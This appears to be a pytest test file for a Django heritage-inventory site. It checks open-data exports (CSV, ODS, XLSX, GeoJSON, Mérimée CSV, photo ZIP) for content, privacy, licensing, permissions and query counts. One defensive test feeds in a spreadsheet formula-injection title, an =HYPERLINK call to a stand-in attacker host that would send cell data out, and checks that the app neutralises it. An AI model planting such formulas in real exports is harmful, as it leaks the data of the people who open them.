"""Open-data exports: what they hold (validated items only, public points, no email), how
each format carries the licence and the credits, who may download what, and a query count
that does not grow with the rows.

Spreadsheets are read back with python-calamine (pandas' reader) and odfpy, not with the
code that wrote them.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.utils import timezone
from odf.opendocument import load as odf_load
from odf.table import Table as OdfTable
from PIL import Image
from python_calamine import CalamineWorkbook

from tissage.core.tests.factories import (
    ProjectFactory,
    ProjectMembershipFactory,
    UserFactory,
    user_with_role,
)
from tissage.core.tests.matrices import (
    DRAFT_SEEN_BY_TEAM,
    EVERYONE,
    FORBIDDEN,
    LOGIN,
    OK,
    STAFF,
    STAFF_DRAFT,
)
from tissage.inventories.campaigns.services import campaign_create
from tissage.inventories.models import Campaign, CampaignField, Contribution, Photo
from tissage.inventories.moderation.services import contribution_decide
from tissage.inventories.opendata import exports
from tissage.inventories.tests.helpers import (
    LAT,
    LON,
    a_photo,
    heritage_campaign,
    published,
    submit,
)
from tissage.projects.models import Project, ProjectMembership

pytestmark = pytest.mark.django_db

FORMATS = ["csv", "ods", "xlsx", "geojson"]


def assert_answer(response, expected: str) -> None:
    if expected == OK:
        assert response.status_code == 200
    elif expected == LOGIN:
        assert response.status_code == 302
        assert response["Location"].startswith("/compte/connexion/?next=")
    elif expected == FORBIDDEN:
        assert response.status_code == 403
    else:
        assert response.status_code == 404


def public_urls(campaign: Campaign) -> list[str]:
    base = f"/inventaires/{campaign.slug}"
    return [
        f"{base}/donnees/",
        *(f"{base}/export.{fmt}" for fmt in FORMATS),
        f"{base}/merimee.csv",
        f"{base}/photos.zip",
    ]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def campaign():
    return heritage_campaign(project=ProjectFactory(status=Project.Status.PUBLISHED))


@pytest.fixture
def moderator(campaign):
    return ProjectMembershipFactory(
        project=campaign.project, role=ProjectMembership.Role.FACILITATOR
    ).user


@pytest.fixture
def items(campaign, moderator):
    """A published lavoir with two photos and answers; an obscured croix by a guest who
    hides her name; and items that must stay out of public exports."""
    shown = published(
        campaign,
        moderator,
        title="Lavoir de la Fontaine",
        description="Bassin couvert.\nToit de tuiles.",
        address="chemin de la Fontaine",
        values={"siecle": "XIXe siècle", "materiaux": ["calcaire", "galets"], "etat": "bon état"},
        photos=[a_photo("Jeanne D."), a_photo("Paul M.")],
        contributor=UserFactory(display_name="Jeanne", email="jeanne.secret@example.org"),
    )
    hidden = submit(
        campaign,
        category=campaign.categories.get(merimee_denomination="croix"),
        title="Croix de chemin",
        lon=4.36789,
        lat=43.84567,
        address="12 impasse des Oliviers",
        obscure_location=True,
        show_contributor=False,
        guest_name="Louise",
        guest_email="louise.secret@example.org",
    )
    Contribution.objects.filter(pk=hidden.pk).update(status=Contribution.Status.SUBMITTED)
    contribution_decide(item=hidden, moderator=moderator, status=Contribution.Status.VALIDATED)
    waiting = submit(campaign, title="Lavoir en attente", contributor=UserFactory())
    rejected = submit(campaign, title="Lavoir refusé", contributor=UserFactory())
    contribution_decide(
        item=rejected, moderator=moderator, status=Contribution.Status.REJECTED, message="Non."
    )
    archived = published(campaign, moderator, title="Lavoir archivé")
    contribution_decide(item=archived, moderator=moderator, status=Contribution.Status.ARCHIVED)
    shown.refresh_from_db()
    hidden.refresh_from_db()
    return {"shown": shown, "hidden": hidden, "waiting": waiting, "rejected": rejected}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_rows(data: bytes, sheet: str = "Fiches") -> list[dict[str, object]]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    header, *rows = book.get_sheet_by_name(sheet).to_python()
    return [dict(zip(header, row, strict=True)) for row in rows]


def about(data: bytes) -> dict[str, object]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return {row[0]: row[1] for row in book.get_sheet_by_name("À propos").to_python()}


# What the exports hold -------------------------------------------------------------------


def test_csv_holds_validated_items_only_with_public_points_and_no_email(client, campaign, items):
    response = client.get(f"/inventaires/{campaign.slug}/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{campaign.slug}.csv"'
    assert (
        response["Link"]
        == '<https://www.etalab.gouv.fr/licence-ouverte-open-licence/>; rel="license"'
    )
    data = body(response)
    assert b"secret@example.org" not in data
    assert data.splitlines()[0].count(b",") > 10  # comma separated
    rows = csv_rows(data)
    assert [row["title"] for row in rows] == ["Lavoir de la Fontaine", "Croix de chemin"]
    shown, hidden = rows
    item = items["shown"]
    assert shown["permalink"] == f"http://testserver/inventaires/{campaign.slug}/fiches/{item.pk}/"
    assert shown["id"] == str(item.pk)
    assert (shown["category"], shown["denomination"]) == ("Lavoir", "lavoir")
    assert shown["description"] == "Bassin couvert.\nToit de tuiles."
    assert (shown["commune"], shown["insee"]) == ("Nîmes", "30189")
    assert shown["address"] == "chemin de la Fontaine"
    assert (float(shown["longitude"]), float(shown["latitude"])) == (LON, LAT)
    assert shown["siecle"] == "XIXe siècle"
    assert shown["materiaux"] == "calcaire ; galets"
    assert shown["etat"] == "bon état"
    assert shown["couverture"] == ""
    assert shown["contributor"] == "Jeanne"
    assert shown["photo_credits"] == "Jeanne D. ; Paul M."
    assert shown["licence"] == "etalab-2.0"
    assert shown["validated_at"] == timezone.localdate(item.validated_at).isoformat()
    # The contributor asked to hide the place: rounded point, no address, no name.
    assert (hidden["longitude"], hidden["latitude"]) == ("4.37", "43.85")
    assert hidden["address"] == ""
    assert hidden["contributor"] == "anonyme"


def test_files_are_in_french_whatever_the_visitors_language(client, campaign, items):
    client.cookies["django_language"] = "en"
    rows = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/export.csv")))
    assert rows[1]["contributor"] == "anonyme"


def test_geojson_is_rfc_7946_with_licence_attribution_and_source(client, campaign, items):
    response = client.get(f"/inventaires/{campaign.slug}/export.geojson")
    assert response["Content-Type"] == "application/geo+json"
    assert response["Access-Control-Allow-Origin"] == "*"
    data = json.loads(body(response))
    assert data["type"] == "FeatureCollection"
    assert "crs" not in data
    assert data["licence"] == {
        "id": "etalab-2.0",
        "name": "Licence Ouverte / Etalab 2.0",
        "url": "https://www.etalab.gouv.fr/licence-ouverte-open-licence/",
    }
    assert data["source"] == f"http://testserver/inventaires/{campaign.slug}/"
    assert campaign.title in data["attribution"]
    assert campaign.project.organisation.name in data["attribution"]
    shown, hidden = data["features"]
    assert shown["geometry"] == {"type": "Point", "coordinates": [LON, LAT]}
    assert shown["id"] == items["shown"].pk
    assert shown["properties"]["materiaux"] == "calcaire ; galets"
    assert "longitude" not in shown["properties"]
    assert hidden["geometry"]["coordinates"] == [4.37, 43.85]
    assert "secret@example.org" not in json.dumps(data)


@pytest.mark.parametrize("fmt", ["ods", "xlsx"])
def test_spreadsheets_have_the_items_and_an_about_sheet(client, campaign, items, fmt):
    response = client.get(f"/inventaires/{campaign.slug}/export.{fmt}")
    assert response.status_code == 200
    data = body(response)
    assert b"secret@example.org" not in data
    rows = sheet_rows(data)
    assert [row["title"] for row in rows] == ["Lavoir de la Fontaine", "Croix de chemin"]
    shown, hidden = rows
    assert (shown["longitude"], shown["latitude"]) == (LON, LAT)
    assert shown["id"] == items["shown"].pk
    assert shown["description"] == "Bassin couvert.\nToit de tuiles."
    assert shown["materiaux"] == "calcaire ; galets"
    assert shown["validated_at"] == timezone.localdate(items["shown"].validated_at)
    assert (hidden["longitude"], hidden["latitude"]) == (4.37, 43.85)
    facts = about(data)
    assert facts["Licence"] == "Licence Ouverte / Etalab 2.0"
    assert facts["Texte de la licence"] == exports.LICENCE_URLS["etalab-2.0"]
    assert facts["Source"] == f"http://testserver/inventaires/{campaign.slug}/"
    assert facts["Nombre de fiches"] == 2
    assert "Jeanne D." in facts["Auteurs des photos"]
    assert "Paul M." in facts["Auteurs des photos"]
    assert facts["materiaux"] == "Matériaux du gros œuvre"  # what each column holds
    assert "Date de l’export" in facts


def test_ods_is_a_valid_opendocument_spreadsheet(client, campaign, items):
    data = body(client.get(f"/inventaires/{campaign.slug}/export.ods"))
    package = zipfile.ZipFile(io.BytesIO(data))
    first = package.infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    assert package.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
    document = odf_load(io.BytesIO(data))
    names = [
        table.getAttribute("name") for table in document.spreadsheet.getElementsByType(OdfTable)
    ]
    assert names == ["Fiches", "À propos"]


@pytest.mark.parametrize("fmt", ["csv", "ods", "xlsx", "geojson"])
def test_tricky_text_comes_back_unchanged(client, campaign, moderator, fmt):
    tricky = "  deux  espaces\tune tabulation\r\nune ligne\rretour _x0041_ =1+1 \x01fin "
    published(campaign, moderator, title="Titre", description=tricky)
    data = body(client.get(f"/inventaires/{campaign.slug}/export.{fmt}"))
    if fmt == "csv":
        value = csv_rows(data)[0]["description"]
    elif fmt == "geojson":
        value = json.loads(data)["features"][0]["properties"]["description"]
    else:
        value = sheet_rows(data)[0]["description"]
    expected = tricky
    if fmt == "ods":
        # XML 1.0 cannot carry control characters; calamine reads tabs as nothing.
        expected = tricky.replace("\x01", "").replace("\t", "")
    assert value == expected


def test_merimee_export_names_columns_by_mérimée_codes(client, campaign, items):
    response = client.get(f"/inventaires/{campaign.slug}/merimee.csv")
    assert response.status_code == 200
    rows = csv_rows(body(response))
    assert list(rows[0])[:6] == ["REF", "TICO", "DENO", "COM", "INSEE", "ADRS"]
    assert {"APPL", "LIEU", "SCLE", "MURS", "COUV", "ETAT", "STAT", "HIST", "REMA"} <= set(rows[0])
    shown = rows[0]
    assert (shown["TICO"], shown["DENO"], shown["COM"], shown["INSEE"]) == (
        "Lavoir de la Fontaine",
        "lavoir",
        "Nîmes",
        "30189",
    )
    assert (shown["SCLE"], shown["MURS"], shown["ETAT"]) == (
        "XIXe siècle",
        "calcaire ; galets",
        "bon état",
    )
    assert rows[1]["DENO"] == "croix"
    assert rows[1]["ADRS"] == ""


def test_denomination_is_the_sources_word_until_a_moderator_changes_the_category(campaign):
    autre = campaign.categories.get(merimee_denomination="")
    item = Contribution(category=autre, values={"source:DENO": "église paroissiale"})
    assert exports.merimee_denomination(item) == "église paroissiale"
    item.category = campaign.categories.get(merimee_denomination="chapelle")
    assert exports.merimee_denomination(item) == "chapelle"
    item.values = {"source:DENO": "CHAPELLE ; clocher"}
    assert exports.merimee_denomination(item) == "CHAPELLE ; clocher"
    item.values = {}
    assert exports.merimee_denomination(item) == "chapelle"
    item.category = autre
    assert exports.merimee_denomination(item) == "Autre élément de patrimoine"


def test_merimee_export_exists_for_heritage_campaigns_only(client):
    free = campaign_create(project=ProjectFactory(), title="Arbres remarquables")
    assert client.get(f"/inventaires/{free.slug}/merimee.csv").status_code == 404
    assert client.get(f"/inventaires/{free.slug}/export.csv").status_code == 200


def test_an_unknown_format_is_not_found(client, campaign):
    assert client.get(f"/inventaires/{campaign.slug}/export.pdf").status_code == 404


def test_a_field_key_taken_by_a_column_gets_a_prefix(client, moderator):
    free = campaign_create(project=ProjectFactory(), title="Arbres")
    free.categories.create(name="Chêne", slug="chene")
    CampaignField.objects.create(campaign=free, key="title", label="Titre d’usage")
    CampaignField.objects.create(campaign=free, key="girth", label="Circonférence", kind="number")
    CampaignField.objects.create(campaign=free, key="alive", label="Vivant", kind="yes_no")
    CampaignField.objects.create(campaign=free, key="seen", label="Vu le", kind="date")
    Contribution.objects.create(
        campaign=free,
        category=free.categories.get(),
        title="Le grand chêne",
        values={"title": "Chêne de Sully", "girth": 4.5, "alive": True, "seen": "2024-05-02"},
        longitude=LON,
        latitude=LAT,
        licence=free.licence,
        consent_at="2024-05-02T10:00:00Z",
        status=Contribution.Status.VALIDATED,
    )
    (row,) = csv_rows(body(client.get(f"/inventaires/{free.slug}/export.csv")))
    assert "denomination" not in row  # a Mérimée column only for heritage campaigns
    assert (row["title"], row["field_title"]) == ("Le grand chêne", "Chêne de Sully")
    assert (row["girth"], row["alive"], row["seen"]) == ("4.5", "true", "2024-05-02")
    (cells,) = sheet_rows(body(client.get(f"/inventaires/{free.slug}/export.xlsx")))
    assert (cells["girth"], cells["alive"]) == (4.5, True)
    assert cells["seen"].isoformat() == "2024-05-02"


def test_photos_zip_has_the_originals_of_validated_items_and_a_credits_file(
    client, campaign, items
):
    response = client.get(f"/inventaires/{campaign.slug}/photos.zip")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    names = archive.namelist()
    shown = items["shown"]
    photos = list(shown.photos.order_by("position"))
    expected = [
        f"{shown.pk}-1-lavoir-de-la-fontaine.jpg",
        f"{shown.pk}-2-lavoir-de-la-fontaine.jpg",
    ]
    hidden = items["hidden"]
    assert names == ["CREDITS.txt", *expected, f"{hidden.pk}-1-croix-de-chemin.jpg"]
    for name, photo in zip(expected, photos, strict=True):
        with photo.image.open("rb") as stored:
            assert archive.read(name) == stored.read()
        assert not Image.open(io.BytesIO(archive.read(name))).getexif()
    credits = archive.read("CREDITS.txt").decode()
    assert "Licence Ouverte / Etalab 2.0" in credits
    assert f"{expected[1]}\r\n  Fiche : Lavoir de la Fontaine\r\n  Auteur : Paul M." in credits
    assert f"http://testserver/inventaires/{campaign.slug}/fiches/{shown.pk}/" in credits
    # Photos of items not published stay out.
    assert Photo.objects.filter(contribution=items["waiting"]).exists()
    assert "attente" not in credits


def test_a_photo_lost_from_the_media_folder_is_left_out(client, campaign, items):
    photo = items["shown"].photos.order_by("position").first()
    photo.image.storage.delete(photo.image.name)
    archive = zipfile.ZipFile(
        io.BytesIO(body(client.get(f"/inventaires/{campaign.slug}/photos.zip")))
    )
    assert len(archive.namelist()) == 3  # CREDITS.txt, the other lavoir photo, the croix
    assert archive.testzip() is None


def test_staff_export_has_every_status_emails_and_exact_points(client, campaign, items, moderator):
    client.force_login(moderator)
    response = client.get(f"/inventaires/{campaign.slug}/export-equipe.csv")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    rows = {row["title"]: row for row in csv_rows(body(response))}
    assert set(rows) == {
        "Lavoir de la Fontaine",
        "Croix de chemin",
        "Lavoir en attente",
        "Lavoir refusé",
        "Lavoir archivé",
    }
    hidden = rows["Croix de chemin"]
    assert hidden["contributor_email"] == "louise.secret@example.org"
    assert hidden["contributor_name"] == "Louise"
    assert hidden["contributor"] == "anonyme"
    assert (float(hidden["longitude"]), float(hidden["latitude"])) == (4.36789, 43.84567)
    assert hidden["address"] == "12 impasse des Oliviers"
    assert hidden["obscure_location"] == "true"
    assert rows["Lavoir de la Fontaine"]["contributor_email"] == "jeanne.secret@example.org"
    assert rows["Lavoir refusé"]["status"] == "rejected"


def test_staff_export_defuses_spreadsheet_formulas(client, campaign, moderator):
    published(campaign, moderator, title='=HYPERLINK("http://evil.example/?"&A1)')
    client.force_login(moderator)
    (row,) = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/export-equipe.csv")))
    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1)'


# The data page ---------------------------------------------------------------------------


def test_data_page_lists_the_formats_licence_and_how_to_credit(client, campaign, items):
    response = client.get(f"/inventaires/{campaign.slug}/donnees/")
    assert response.status_code == 200
    page = response.content.decode()
    for url in public_urls(campaign)[1:]:
        assert f"http://testserver{url}" in page
    assert exports.LICENCE_URLS["etalab-2.0"] in page
    assert "les contributeurs et contributrices de l’inventaire" in page  # the attribution
    assert "2" in page.split("<h1>")[1][:400]  # item count in the lead
    assert "export-equipe.csv" not in page
    assert "/importer/" not in page


def test_data_page_offers_the_staff_export_and_the_import_to_the_team(client, campaign, moderator):
    client.force_login(moderator)
    page = client.get(f"/inventaires/{campaign.slug}/donnees/").content.decode()
    assert f"/inventaires/{campaign.slug}/export-equipe.csv" in page
    assert f"/inventaires/{campaign.slug}/importer/" in page


def test_data_page_of_a_free_campaign_has_no_merimee_export(client):
    free = campaign_create(project=ProjectFactory(), title="Arbres")
    page = client.get(f"/inventaires/{free.slug}/donnees/").content.decode()
    assert "merimee.csv" not in page
    assert "photos.zip" in page


# Permissions -----------------------------------------------------------------------------


@pytest.mark.parametrize(("role", "expected"), EVERYONE)
def test_public_data_is_for_anyone_who_sees_the_campaign(client, campaign, role, expected):
    user = user_with_role(role, campaign.project)
    if user is not None:
        client.force_login(user)
    for url in public_urls(campaign):
        assert_answer(client.get(url), expected)


@pytest.mark.parametrize(("role", "expected"), DRAFT_SEEN_BY_TEAM)
def test_a_draft_projects_data_is_hidden_from_outsiders(client, role, expected):
    campaign = heritage_campaign(project=ProjectFactory(status=Project.Status.DRAFT))
    user = user_with_role(role, campaign.project)
    if user is not None:
        client.force_login(user)
    for url in public_urls(campaign):
        assert_answer(client.get(url), expected)


@pytest.mark.parametrize(("role", "expected"), STAFF)
def test_staff_export_is_for_moderators_only(client, campaign, items, role, expected):
    user = user_with_role(role, campaign.project)
    if user is not None:
        client.force_login(user)
    response = client.get(f"/inventaires/{campaign.slug}/export-equipe.csv")
    assert_answer(response, expected)
    if expected == OK:
        assert b"louise.secret@example.org" in body(response)


@pytest.mark.parametrize(("role", "expected"), STAFF_DRAFT)
def test_staff_export_of_a_draft_project(client, role, expected):
    campaign = heritage_campaign(project=ProjectFactory(status=Project.Status.DRAFT))
    user = user_with_role(role, campaign.project)
    if user is not None:
        client.force_login(user)
    assert_answer(client.get(f"/inventaires/{campaign.slug}/export-equipe.csv"), expected)


# Queries ---------------------------------------------------------------------------------


def add_published(campaign: Campaign, count: int) -> None:
    """`count` validated items, each with a photo and a contributor account."""
    category = campaign.categories.first()
    people = UserFactory.create_batch(count)
    created = Contribution.objects.bulk_create(
        Contribution(
            campaign=campaign,
            category=category,
            title=f"Item {n}",
            longitude=LON,
            latitude=LAT,
            licence=campaign.licence,
            consent_at="2024-05-02T10:00:00Z",
            validated_at="2024-05-03T10:00:00Z",
            status=Contribution.Status.VALIDATED,
            contributor=person,
            values={"materiaux": ["calcaire"]},
        )
        for n, person in enumerate(people)
    )
    for item in created:
        photo = a_photo().photo
        Photo.objects.create(
            contribution=item,
            image=photo.image,
            thumbnail=photo.thumbnail,
            width=40,
            height=30,
            credit="Jeanne",
        )


@pytest.mark.parametrize(
    "url",
    [
        "export.csv",
        "export.ods",
        "export.xlsx",
        "export.geojson",
        "merimee.csv",
        "photos.zip",
        "export-equipe.csv",
        "donnees/",
    ],
)
def test_query_count_does_not_grow_with_the_rows(
    client, campaign, moderator, url, django_assert_max_num_queries
):
    client.force_login(moderator)
    add_published(campaign, 3)
    with django_assert_max_num_queries(12) as few:
        small = body(client.get(f"/inventaires/{campaign.slug}/{url}"))
    add_published(campaign, 30)
    with django_assert_max_num_queries(len(few.captured_queries)):
        large = body(client.get(f"/inventaires/{campaign.slug}/{url}"))
    assert len(large) > len(small) or url == "donnees/"


def test_exports_read_the_rows_in_chunks(client, campaign, moderator, monkeypatch):
    """With chunks of 10 rows, 25 rows take three reads: nothing loads all at once."""
    monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
    add_published(campaign, 25)
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(body(client.get(f"/inventaires/{campaign.slug}/export.csv")))
    assert len(rows) == 25
    photo_reads = [q for q in queries.captured_queries if 'FROM "inventories_photo"' in q["sql"]]
    assert len(photo_reads) == 3
